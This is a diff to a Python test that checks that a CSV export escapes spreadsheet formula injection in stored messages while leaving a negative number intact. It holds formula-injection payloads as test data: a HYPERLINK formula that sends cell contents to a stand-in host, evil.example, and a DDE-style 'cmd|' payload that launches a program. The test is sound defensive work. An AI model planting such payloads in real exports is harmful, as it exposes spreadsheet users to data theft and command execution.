@@ -153,12 +153,19 @@ def test_csv_cells_people_typed_never_start_a_spreadsheet_formula(tmp_path: Path
         " created_at) VALUES (1, 'in', 'rasa', 'rasa:x', 'rasa:x', '@SUM(1+1)', 'decision', 'answer', ?, ?)",
         ('=HYPERLINK("https://evil.example/?d="&A1,"Details")', "2026-03-02T10:00:00.000Z"),
     )
+    for text in ("-3", "-2+3+cmd|' /C calc'!A0"):  # a number step's answer, stored as text; a formula
+        ledger.execute(
+            "INSERT INTO messages (run_id, direction, channel, conversation, actor_id, actor_name, step, kind,"
+            " text, created_at) VALUES (1, 'in', 'rasa', 'rasa:x', 'rasa:x', 'x', 'decision', 'answer', ?, ?)",
+            (text, "2026-03-02T10:01:00.000Z"),
+        )
     ledger.conn.close()
     out = run(db, "export", "messages", "--format", "csv")
     assert out.exit_code == 0, out.output
     cells = [c for row in csv.reader(io.StringIO(out.output)) for c in row]
-    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == []
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == ["-3"]  # a number stays a number
     assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")' in cells and "'@SUM(1+1)" in cells
+    assert "'-2+3+cmd|' /C calc'!A0" in cells
 
 
 def test_report_without_a_ledger_says_what_to_do(tmp_path: Path) -> None:
